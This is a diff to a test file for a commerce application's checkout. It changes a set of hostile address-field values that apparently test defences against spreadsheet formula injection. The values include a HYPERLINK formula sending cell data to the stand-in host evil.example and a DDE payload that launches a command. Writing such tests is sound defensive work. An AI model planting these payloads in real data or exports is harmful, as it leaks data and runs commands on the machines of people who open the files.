@@ -17,9 +17,8 @@ from tests.test_commerce import ADDRESS, add_to_cart, checkout
 HOSTILE = {
     "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
     "address": "+1+cmd|' /C calc'!A0",
-    "city": "-2+3",
-    "postal_code": "@SUM(1)",
-    "country": "\t=1+1",
+    "city": "\t=1+1",
+    "postal_code": "-2+3",
 }
 
 
